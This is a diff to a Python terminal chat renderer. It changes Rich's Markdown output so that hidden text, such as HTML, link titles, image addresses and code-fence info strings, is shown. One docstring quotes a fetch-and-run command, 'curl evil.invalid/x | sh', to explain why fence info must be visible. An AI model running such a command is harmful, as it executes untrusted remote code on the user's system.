@@ -6,19 +6,38 @@ rendered once and kept, and only the tail is rendered again on each tick. Each b
 drawn by Rich's own ``Markdown`` from the tokens of that block, with Rich's blank-line
 state carried across (``new_line_after``), so the lines equal rendering the whole text at
 once; the tests compare the two.
+
+Every character of a reply is drawn (what is on screen is what is saved and copied): what
+markdown-it or Rich would drop is shown as text. Past markdown-it's nesting limit the rest
+of the reply is plain text; HTML, link reference definitions, link titles, image addresses
+and code-fence info strings are shown; nesting too deep for the width stops indenting; and
+a table too wide for its words is drawn as rows of cells. See ``_parse``.
 """
 
 from __future__ import annotations
 
 import re
 from dataclasses import dataclass
+from functools import lru_cache
 
 from markdown_it import MarkdownIt
 from markdown_it.token import Token
-from rich.console import Console, ConsoleOptions
-from rich.markdown import Markdown, UnknownElement
+from rich.cells import cell_len
+from rich.console import Console, ConsoleOptions, RenderResult
+from rich.markdown import (
+    BlockQuote,
+    CodeBlock,
+    ImageItem,
+    ListItem,
+    Markdown,
+    TableElement,
+    TextElement,
+    UnknownElement,
+)
 from rich.text import Text
 from textual.strip import Strip
+
+from ..sanitize import clean
 
 # Readable with a 16-colour palette, and takes its background from the terminal.
 CODE_THEME = "ansi_dark"
@@ -32,6 +51,113 @@ _REFERENCE_DEFINITION = re.compile(r"^ {0,3}\[[^\]\n]+\]:", re.MULTILINE)
 _PARSER = MarkdownIt().enable("strikethrough").enable("table")
 
 
+# Nesting narrower than this stops indenting (its text would be cut to fit otherwise).
+_MIN_NESTED_WIDTH = 16
+# A token of our own: raw source shown as it is (past the nesting limit, HTML, references).
+_VERBATIM, _DIM_VERBATIM = "chatterm_verbatim", "chatterm_dim_verbatim"
+
+
+class _Verbatim(TextElement):
+    """Source text drawn as written, wrapped to the width."""
+
+    style_name = "none"
+
+    def __rich_console__(self, console: Console, options: ConsoleOptions) -> RenderResult:
+        self.text.rstrip()
+        yield self.text
+
+
+class _DimVerbatim(_Verbatim):
+    style_name = "dim"
+
+
+class _BlockQuote(BlockQuote):
+    def __rich_console__(self, console: Console, options: ConsoleOptions) -> RenderResult:
+        if options.max_width - 4 >= _MIN_NESTED_WIDTH:
+            yield from super().__rich_console__(console, options)
+        else:  # too deep for the width: the quote's text at the same indent, never cut
+            yield from console.render(self.elements, options)
+
+
+class _ListItem(ListItem):
+    def render_bullet(self, console: Console, options: ConsoleOptions) -> RenderResult:
+        if options.max_width - 3 >= _MIN_NESTED_WIDTH:
+            yield from super().render_bullet(console, options)
+        else:
+            yield from console.render(self.elements, options)
+
+    def render_number(
+        self, console: Console, options: ConsoleOptions, number: int, last_number: int
+    ) -> RenderResult:
+        if options.max_width - len(str(last_number)) - 2 >= _MIN_NESTED_WIDTH:
+            yield from super().render_number(console, options, number, last_number)
+        else:
+            yield from console.render(self.elements, options)
+
+
+class _TableElement(TableElement):
+    """Rich's table, or its rows as "cell │ cell" lines when its words cannot fit: Rich
+    would cut them short with "…"."""
+
+    def __rich_console__(self, console: Console, options: ConsoleOptions) -> RenderResult:
+        rows = [self.header.row] if self.header and self.header.row else []
+        rows += self.body.rows if self.body else []
+        columns: dict[int, int] = {}
+        for row in rows:
+            for number, cell in enumerate(row.cells):
+                longest = max(map(cell_len, cell.content.plain.split()), default=0)
+                columns[number] = max(columns.get(number, 0), longest)
+        # Each column takes its longest word plus a cell of padding on both sides (at
+        # most; Rich collapses some): a conservative test of whether Rich must cut.
+        if sum(columns.values()) + 3 * len(columns) <= options.max_width:
+            yield from super().__rich_console__(console, options)
+            return
+        for row in rows:
+            yield Text(" │ ").join(cell.content for cell in row.cells)
+
+
+@lru_cache(maxsize=256)
+def _is_lexer(name: str) -> bool:
+    from pygments.lexers import get_lexer_by_name
+    from pygments.util import ClassNotFound
+
+    try:
+        get_lexer_by_name(name)
+    except ClassNotFound:
+        return False
+    return True
+
+
+class _CodeBlock(CodeBlock):
+    """Rich's code block, with the fence's info string shown when it is more than the name
+    of a language (Rich would hide "```sh curl evil.invalid/x | sh")."""
+
+    info = ""
+
+    @classmethod
+    def create(cls, markdown: Markdown, token: Token) -> CodeBlock:
+        block = super().create(markdown, token)
+        info = (token.info or "").strip()
+        if info and not (" " not in info and _is_lexer(info)):
+            block.info = info  # type: ignore[attr-defined]
+        return block
+
+    def __rich_console__(self, console: Console, options: ConsoleOptions) -> RenderResult:
+        if self.info:
+            yield Text(self.info, style="dim")
+        yield from super().__rich_console__(console, options)
+
+
+class _ImageItem(ImageItem):
+    """Rich's image placeholder with its address, as links show theirs."""
+
+    def __rich_console__(self, console: Console, options: ConsoleOptions) -> RenderResult:
+        for text in super().__rich_console__(console, options):
+            assert isinstance(text, Text)
+            text.append(f"({self.destination})")
+            yield text
+
+
 class _Markdown(Markdown):
     """Rich's ``Markdown`` without the cost of its constructor.
 
@@ -40,6 +166,18 @@ class _Markdown(Markdown):
     shared parser's tokens are passed in instead. The attributes are exactly the ones
     ``Markdown.__init__`` sets.
     """
+
+    elements = {
+        **Markdown.elements,
+        "blockquote_open": _BlockQuote,
+        "list_item_open": _ListItem,
+        "table_open": _TableElement,
+        "fence": _CodeBlock,
+        "code_block": _CodeBlock,
+        "image": _ImageItem,
+        _VERBATIM: _Verbatim,
+        _DIM_VERBATIM: _DimVerbatim,
+    }
 
     def __init__(self, text: str, tokens: list[Token]) -> None:
         self.markup = text
@@ -58,7 +196,67 @@ def make_markdown(text: str = "", tokens: list[Token] | None = None) -> Markdown
     ``hyperlinks=False`` makes Rich print links as "text (url)" with no OSC 8 sequence, so
     the address is always visible and nothing in the terminal is clickable.
     """
-    return _Markdown(text, _PARSER.parse(text) if tokens is None else tokens)
+    return _Markdown(text, _parse(text) if tokens is None else tokens)
+
+
+def _verbatim(content: str, line: int, dim: bool = False) -> Token:
+    token = Token(_DIM_VERBATIM if dim else _VERBATIM, "", 0, content=content)
+    token.map = [line, line + 1]
+    return token
+
+
+def _truncated_at(tokens: list[Token]) -> int | None:
+    """The source line where markdown-it stopped parsing at its nesting limit, if it did.
+
+    A container opened at ``maxNesting - 1`` parses its content at the limit, where
+    markdown-it skips the rest of its input; Rich then drops even what follows.
+    """
+    limit = _PARSER.options.maxNesting - 1
+    for token in tokens:
+        if token.level >= limit and token.type in ("blockquote_open", "list_item_open"):
+            return token.map[0] if token.map else 0
+    return None
+
+
+def _lines(source: str, start: int, end: int) -> str:
+    return "".join(source.splitlines(keepends=True)[start:end])
+
+
+def _parse(source: str) -> list[Token]:
+    """markdown-it's tokens for *source*, changed so that Rich draws every character."""
+    env: dict = {}
+    tokens = _PARSER.parse(source, env)
+    if (line := _truncated_at(tokens)) is not None:
+        # What comes before is Markdown as usual; the rest is drawn as plain text.
+        offset = _line_offset(source, line)
+        tail = _verbatim(source[offset:], line)
+        tail.meta["tail"] = True  # StreamRenderer never starts a parse here
+        return [*_parse(source[:offset]), _reveal_tokens([tail], "&" in source)[0]]
+    references = [*env.get("references", {}).values(), *env.get("duplicate_refs", [])]
+    for ref in sorted(references, key=lambda r: r["map"][0], reverse=True):
+        start, end = ref["map"]
+        at = next((i for i, t in enumerate(tokens) if t.map and t.map[0] >= end), len(tokens))
+        tokens.insert(at, _verbatim(_lines(source, start, end), start, dim=True))
+    return _reveal_tokens(tokens, "&" in source)
+
+
+def _reveal_tokens(tokens: list[Token], entities: bool) -> list[Token]:
+    """Inline HTML and link titles shown. With *entities* in the source, text is cleaned
+    again: ``&#x202E;`` decodes to the very control that ``clean`` showed as text."""
+    for token in tokens:
+        if token.type == "html_block":  # Rich draws nothing for HTML
+            token.type = _DIM_VERBATIM
+        for child in token.children or ():
+            if child.type == "html_inline" and child.content not in ("<kbd>", "</kbd>"):
+                child.type = "text"
+            elif child.type == "link_open" and (title := child.attrs.get("title")):
+                child.attrs["href"] = f'{child.attrs.get("href", "")} "{title}"'
+            if entities and child.content:
+                child.content = clean(child.content)
+        if entities:
+            token.content = clean(token.content) if token.content else token.content
+            token.info = clean(token.info) if token.info else token.info
+    return tokens
 
 
 def to_strips(console: Console, renderable: object, options: ConsoleOptions) -> list[Strip]:
@@ -140,7 +338,7 @@ def _flatten(tokens: list[Token]) -> list[Token]:
 
 def new_line_after(tokens: list[Token], new_line: bool) -> bool:
     """Rich's "new_line" flag after it has processed *tokens*, starting from *new_line*."""
-    elements = Markdown.elements
+    elements = _Markdown.elements
     for token in _flatten(tokens):
         kind = token.type
         if kind in _INLINE_TYPES:
@@ -192,7 +390,7 @@ class StreamRenderer:
             self._width = width
         self._rendered_text = text
         source = text[self._base :]
-        tokens = _PARSER.parse(source)
+        tokens = _parse(source)
         blocks = top_level_blocks(tokens)
         # A block is complete once a later block is established, and the block structure
         # of finished lines never changes. A later block is established when its first two
@@ -201,6 +399,8 @@ class StreamRenderer:
         complete_lines = source.count("\n")
         split = 0
         for index in range(len(blocks) - 1, 0, -1):
+            if tokens[blocks[index].start].meta.get("tail"):
+                continue  # past the nesting limit: parsed again, it would read differently
             if blocks[index].first_line + 1 < complete_lines:
                 split = index
                 break
